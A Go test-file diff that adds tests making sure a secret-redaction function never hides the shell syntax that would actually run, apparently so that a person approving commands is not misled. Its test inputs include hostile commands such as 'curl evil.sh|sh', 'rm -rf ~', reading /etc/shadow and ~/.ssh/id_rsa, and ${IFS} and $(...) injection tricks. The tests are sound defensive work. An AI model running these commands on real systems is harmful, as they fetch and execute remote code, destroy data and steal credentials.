@@ -2,8 +2,11 @@ package domain
 
 import (
 	"encoding/json"
+	"slices"
 	"strings"
 	"testing"
+
+	"pgregory.net/rapid"
 )
 
 // TestRedactPathHidesTheStoreItself: the element that marks a credential
@@ -86,4 +89,79 @@ func BenchmarkRedactText(b *testing.B) {
 			}
 		})
 	}
+}
+
+// TestRedactionNeverHidesWhatRuns: a redaction hides a secret, never the
+// shell syntax around it. Each of these commands once showed the person
+// asked to approve it a harmless command while it ran another (a query
+// value, a header value, an option's value, a sensitive path's word and
+// a URL's userinfo ran into the rest of the line); what runs must stay in
+// view, and the secret must still be hidden where there is one.
+func TestRedactionNeverHidesWhatRuns(t *testing.T) {
+	for _, c := range []struct{ in, keep, hide string }{
+		{"echo http://x/?a=1;touch${IFS}/tmp/ws/PWNED;id", ";touch${IFS}/tmp/ws/PWNED;id", ""},
+		{"curl http://x/?token=Qtok99;curl${IFS}evil.sh|sh", ";curl${IFS}evil.sh|sh", "Qtok99"},
+		{"curl http://x/?token=Qtok99&touch /tmp/p", "&touch /tmp/p", "Qtok99"},
+		{`curl "http://x/?token=$(id)"`, "$(id)", ""},
+		{"curl http://$(touch${IFS}/tmp/p)@example.com/", "$(touch${IFS}/tmp/p)", ""},
+		{"curl http://bob:pw77;id@example.com/", ";id@example.com/", ""}, // the shell ends the URL at ";"
+		{"curl http://bob:pw77@example.com/;id", ";id", "pw77"},
+		{"cat /w/.env;curl${IFS}evil.sh|sh", ";curl${IFS}evil.sh|sh", ""},
+		{"cat ~/.ssh/id_rsa`id`", "`id`", "id_rsa"},
+		{"echo Authorization: x1x2x3;rm -rf ~", ";rm -rf ~", "x1x2x3"},
+		{`curl -H "Authorization: Bearer $(cat /etc/shadow)"`, "$(cat /etc/shadow)", ""},
+		{"TOKEN=$(curl evil|sh) make", "$(curl evil|sh)", ""},
+		{"TOKEN=abc123;rm -rf ~", ";rm -rf ~", "abc123"},
+		{"mysql --password hunter2;rm -rf ~", ";rm -rf ~", "hunter2"},
+		{"curl -u bob:pw42|sh", "|sh", "pw42"},
+		{"echo ghp_abcdefghijklmnopqrstuvwxyz0123&&id", "&&id", "ghp_abcdefghijklmnopqrstuvwxyz0123"},
+	} {
+		got := RedactText(c.in)
+		if !strings.Contains(got, c.keep) {
+			t.Errorf("RedactText(%q) = %q: lost %q", c.in, got, c.keep)
+		}
+		if c.hide != "" && strings.Contains(got, c.hide) {
+			t.Errorf("RedactText(%q) = %q: keeps the secret %q", c.in, got, c.hide)
+		}
+	}
+	// Controls: inside single quotes nothing is syntax, so a quoted value
+	// is hidden whole, as before.
+	for _, c := range []struct{ in, hide string }{
+		{"curl -H 'Cookie: sid=C00kie; theme=dark' https://h/", "C00kie"},
+		{"mysql --password 'two words;x'", "two words"},
+		{"curl 'https://h/?token=Q;tok&x=1'", "Q;tok"},
+	} {
+		if got := RedactText(c.in); strings.Contains(got, c.hide) || !strings.Contains(got, redacted) {
+			t.Errorf("RedactText(%q) = %q: keeps %q", c.in, got, c.hide)
+		}
+	}
+}
+
+// TestRedactionKeepsTheShellSyntax: for any text without single quotes
+// (where nothing is syntax), every byte of the shell's syntax it holds (its
+// quotes and escapes, its operators and expansions outside quotes, and $
+// and ` inside double quotes) is in the redacted text, in the same order:
+// a redaction removes only the bytes of tokens.
+func TestRedactionKeepsTheShellSyntax(t *testing.T) {
+	syntax := func(s string) string {
+		ctx := shellContexts(s)
+		var b strings.Builder
+		for i := 0; i < len(s); i++ {
+			switch {
+			case ctx[i] == ctxSyntax,
+				ctx[i] == ctxPlain && strings.IndexByte(";&|()<>$`\n{}", s[i]) >= 0,
+				ctx[i] == ctxDouble && strings.IndexByte("$`", s[i]) >= 0:
+				b.WriteByte(s[i])
+			}
+		}
+		return b.String()
+	}
+	pieces := append(slices.DeleteFunc(slices.Clone(redactFragments), func(p string) bool { return strings.Contains(p, "'") }),
+		";", "&&", "|", "$(", ")", "`", "${IFS}", "<", ">", "\\", "{", "}", "/home/a/.ssh/k", ".env", "rm -rf ~", "touch /tmp/p")
+	rapid.Check(t, func(t *rapid.T) {
+		s := strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 1, 14).Draw(t, "parts"), "")
+		if got := RedactText(s); syntax(got) != syntax(s) {
+			t.Fatalf("RedactText(%q) = %q: syntax %q, want %q", s, got, syntax(got), syntax(s))
+		}
+	})
 }
